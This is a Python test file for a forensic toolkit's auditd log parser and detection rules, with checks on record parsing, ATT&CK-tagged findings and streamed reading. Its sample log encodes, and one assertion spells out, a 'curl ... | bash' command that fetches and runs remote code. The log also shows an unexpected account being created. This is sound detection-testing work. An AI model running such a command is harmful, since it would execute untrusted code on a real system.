"""The audit log: records as auditd writes them (examples of the Linux Audit project's documentation, with invented names)."""

from __future__ import annotations

import pytest

from forensic_toolkit.readers import audit_log, log_stream
from forensic_toolkit.readers.coverage import Artifact
from forensic_toolkit.results import Finding
from forensic_toolkit.rules import audit_rules
from tests.toolkit.fake_tree import Builder

LOG = """\
type=SYSCALL msg=audit(1772359200.123:501): arch=c000003e syscall=59 success=yes exit=0 items=2 ppid=1 pid=2 auid=1000 uid=33 exe="/usr/bin/bash" comm="bash" key="exec"\x1dARCH=x86_64 AUID="deploy"
type=EXECVE msg=audit(1772359200.123:501): argc=3 a0="bash" a1="-c" a2=6375726C20687474703A2F2F3139382E35312E3130302E372F78207C206261736800
type=USER_AUTH msg=audit(1772359201.000:502): pid=9 uid=0 auid=4294967295 ses=4294967295 msg='op=PAM:authentication grantors=? acct="root" exe="/usr/sbin/sshd" hostname=203.0.113.9 addr=203.0.113.9 terminal=ssh res=failed'
type=USER_LOGIN msg=audit(1772359202.000:503): pid=9 uid=0 auid=0 ses=3 msg='op=login acct="root" exe="/usr/sbin/sshd" hostname=203.0.113.9 addr=203.0.113.9 terminal=ssh res=success'
type=ADD_USER msg=audit(1772359203.000:504): pid=9 uid=0 auid=0 ses=3 msg='op=adding user acct="helper" exe="/usr/sbin/useradd" hostname=? addr=? terminal=pts/0 res=success'
not a record
"""


def test_records_become_events_with_commands_and_log_ins() -> None:
    artifact = Artifact(audit_log.KIND, "/var/log/audit/audit.log", len(LOG))
    events = list(audit_log.events(LOG.split("\n"), artifact=artifact))
    assert (artifact.lines, artifact.parsed) == (6, 5)
    assert events[0].command.rstrip() == "bash -c curl http://198.51.100.7/x | bash"
    assert events[0].time.isoformat() == "2026-03-01T10:00:00.123000+00:00"


def test_executed_commands_and_accounts_are_findings() -> None:
    events = audit_log.events(LOG.split("\n"), artifact=Artifact(audit_log.KIND, "a", 1))
    said = [item for event in events for item in audit_rules.of_event(event, source="a") if isinstance(item, Finding)]
    assert {(item.title, item.technique) for item in said} >= {
        ("Download piped into an interpreter (audit log)", "T1059.004"),
        ("Account created: helper", "T1136.001"),
    }


def test_a_log_of_any_size_gives_the_same_events_block_by_block(monkeypatch: pytest.MonkeyPatch) -> None:
    """An event whose records lie in two blocks is still one event."""
    lines = []
    for number in range(40):
        head = f"msg=audit(17953{number:05}.{number:03}:{100 + number}):"
        lines.append(f'type=SYSCALL {head} arch=c000003e syscall=59 success=yes exe="/usr/bin/id" auid={number}')
        lines.append(f'type=EXECVE {head} argc=2 a0="id" a1="{number}"')
        lines.append(f"type=PROCTITLE {head} proctitle=6964")
    content = ("\n".join(lines) + "\n").encode()
    whole = {(e.serial, e.command, tuple(e.types)) for e in audit_log.events(lines, artifact=Artifact("a", "a", 1))}
    assert len(whole) == 40
    entry = next(Builder().add("/var/log/audit/audit.log", content).tree().files(audit_log.FILES))
    for size in (100, 333, 1000, 1 << 20):
        monkeypatch.setattr(log_stream, "BLOCK", size)
        artifact = Artifact("audit log", entry.path, entry.size)
        found = list(audit_log.streamed(log_stream.LogFile(entry), artifact=artifact))
        assert len(found) == 40
        assert {(e.serial, e.command, tuple(e.types)) for e in found} == whole, size
        assert (artifact.lines, artifact.parsed) == (120, 120)
